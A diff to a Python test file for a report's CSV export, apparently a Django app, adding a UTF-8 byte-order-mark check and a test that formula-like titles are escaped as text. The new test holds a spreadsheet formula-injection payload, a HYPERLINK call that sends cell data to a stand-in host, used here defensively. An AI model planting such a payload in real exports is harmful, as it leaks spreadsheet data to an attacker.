@@ -81,7 +81,9 @@ def test_the_csv_export_is_in_the_admin_users_language_with_dates_to_the_minute(
 
     response = client.get(REPORT, {"language": "cy", "state": "partial", "export": "csv"})
     assert response.status_code == 200
-    table = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    body = b"".join(response.streaming_content).decode()
+    assert body.startswith("\ufeff")  # so a spreadsheet reads it as UTF-8
+    table = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))
 
     assert table[0] == ["Tytuł", "Typ", "Język", "Tłumaczenie",
                         "Przetłumaczono z wersji angielskiej z dnia"]
@@ -89,3 +91,18 @@ def test_the_csv_export_is_in_the_admin_users_language_with_dates_to_the_minute(
     assert title == "Courier scam calls"
     assert page_type != "alert" and state not in ("Partly translated", "")
     assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d[+-]\d\d:\d\d", translated_from)
+
+
+def test_titles_that_look_like_formulas_stay_text_in_the_csv(
+        client, editorial, site_administrator):
+    alert('=HYPERLINK("http://evil.example/?"&A1,"Click")', slug="formula")
+    alert("+44 20 calls claiming to be from HMRC", slug="plus")
+    alert("Ordinary title", slug="ordinary")
+    client.force_login(site_administrator)
+
+    response = client.get(REPORT, {"language": "cy", "export": "csv"})
+    body = b"".join(response.streaming_content).decode().removeprefix("\ufeff")
+    titles = {row[0] for row in list(csv.reader(io.StringIO(body)))[1:]}
+
+    assert titles == {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+                      "'+44 20 calls claiming to be from HMRC", "Ordinary title"}
